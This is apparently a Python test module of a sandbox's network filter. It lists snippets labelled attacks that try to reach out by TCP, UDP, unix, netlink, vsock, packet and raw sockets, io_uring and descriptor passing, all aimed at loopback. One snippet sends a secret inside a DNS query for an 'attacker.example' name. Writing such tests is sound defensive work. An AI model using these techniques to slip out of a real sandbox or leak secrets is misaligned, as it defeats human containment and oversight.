"""Attacks that reach out: sockets of every family, and the ways around a filter on `socket`. Loopback only."""

from collections.abc import Callable
from typing import Final

from .attack import Attack, Targets
from .raw import RAW
from .targets import received

TCP = """
import socket


def attack(t):
    with socket.create_connection(("{host}", t["{port}"]), timeout=5) as one:
        one.sendall(b"hello")
        return f"connected from {{one.getsockname()}}"
"""

UDP = """
import socket


def attack(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        sent = one.sendto(b"hello", ("127.0.0.1", t["udp4"]))
        return f"sent {sent} bytes"
"""

DNS = """
import socket


def attack(t):
    labels = b"".join(bytes([len(part)]) + part for part in (b"s3cret", b"attacker", b"example"))
    question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + labels + b"\\x00\\x00\\x01\\x00\\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("127.0.0.1", t["udp4"]))
        return f"asked {one.send(question)} bytes of a resolver"
"""

RAW_TCP = (
    RAW
    + """
import struct


def attack(t):
    one = call("socket", 2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack(">H", t["tcp4"]) + bytes([127, 0, 0, 1]) + bytes(8)
    call("connect", one, address, 16)
    return f"sent {os.write(one, b'hello')} bytes"
"""
)

LISTEN = """
import socket


def attack(t):
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        one.listen()
        return f"listens on {one.getsockname()}"
"""

STREAM = """
import socket


def attack(t):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.connect(t["{key}"])
        return f"sent {{one.send(b'hello')}} bytes"
"""

PAIR_SENDS = """
import socket


def attack(t):
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return f"sent {one.sendto(b'hello', t['unix_dgram'])} bytes"
"""

PAIR_CONNECTS = """
import socket


def attack(t):
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(t["unix_dgram"])
    return f"sent {one.send(b'hello')} bytes"
"""

NETLINK = """
import socket, struct


def attack(t):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.send(struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0))  # RTM_GETLINK, all of them
        return f"was told {len(one.recv(65536))} bytes of the machine's links"
"""

VSOCK = """
import socket


def attack(t):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as one:
        return f"a socket to the hypervisor: {one.getsockname()}"
"""

ALG = """
import socket


def attack(t):
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as one:
        one.bind(("hash", "sha256"))
        worker, _ = one.accept()
        worker.send(b"hello")
        return worker.recv(32).hex()
"""

PACKET = """
import socket


def attack(t):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as one:
        one.bind(("lo", 0))
        return f"reads every frame of {one.getsockname()[0]}"
"""

ICMP = """
import socket


def attack(t):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as one:
        return f"sent {one.sendto(bytes([8, 0, 0xF7, 0xFF]) + bytes(4), ('127.0.0.1', 0))} bytes"
"""

RING = (
    RAW
    + """

def attack(t):
    return f"a ring, descriptor {call('io_uring_setup', 4, room(120))}"
"""
)

# The channel of a sandbox's call is among them; a space before the answer there is still JSON, and the call goes on.
PASS_ON = """
import os, socket, stat


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


def attack(t):
    passed = []
    inherited = [socket.socket(fileno=os.dup(n)) for n in filter(is_socket, range(3, 64))]
    pair = socket.socketpair()
    for one in (*inherited, pair[0]):
        try:
            passed.append(socket.send_fds(one, [b" "], [0]))
        except OSError:
            pass
    return f"passed a descriptor on {len(passed)} sockets" if passed else ""
"""

# What asyncio does over its own pair is allowed; descriptors are not to come in over one.
TAKE = """
import os, socket


def attack(t):
    one, other = socket.socketpair()
    socket.send_fds(one, [b"x"], [0])
    _, taken, _, _ = socket.recv_fds(other, 1, 1)
    return f"was handed {os.readlink(f'/proc/self/fd/{taken[0]}')}"
"""

NA: Final = "socket"
"""Not every kernel has these families, and raw sockets are root's: then the filter's program is what is tested."""


def _reached(name: str) -> Callable[[Targets], str]:
    """What came to a listener."""
    return lambda targets: received(targets, name)


def _network(name: str, source: str, *, reaches: str = "", syscall: str = "") -> Attack:
    return Attack(name, "network", source, seen=_reached(reaches) if reaches else None, syscall=syscall)


ATTACKS: Final = (
    _network("connects by TCP", TCP.format(host="127.0.0.1", port="tcp4"), reaches="tcp4"),
    _network("connects by TCP over IPv6", TCP.format(host="::1", port="tcp6"), reaches="tcp6", syscall=NA),
    _network("connects by TCP with system calls of its own", RAW_TCP, reaches="tcp4"),
    _network("listens on a TCP port", LISTEN),
    _network("sends by UDP", UDP, reaches="udp4"),
    _network("asks a DNS resolver, with a secret in the name", DNS, reaches="udp4"),
    _network("connects to a unix socket by its path", STREAM.format(key="unix"), reaches="unix:"),
    _network("connects to an abstract unix socket", STREAM.format(key="abstract"), reaches="abstract:"),
    _network("sends from a socket pair to a unix socket by its path", PAIR_SENDS, reaches="unix_dgram"),
    _network("connects one of a socket pair to a unix socket", PAIR_CONNECTS, reaches="unix_dgram"),
    _network("asks the kernel for its links by netlink", NETLINK),
    _network("opens a socket to the hypervisor", VSOCK, syscall=NA),
    _network("opens a socket of the kernel's cryptography", ALG, syscall=NA),
    _network("listens to every frame of an interface", PACKET, syscall=NA),
    _network("sends raw ICMP", ICMP, syscall=NA),
    _network("sets up a ring that could open sockets", RING, syscall="io_uring_setup"),
    _network("passes a descriptor over a socket", PASS_ON),
    _network("takes a descriptor from a socket pair", TAKE),
)
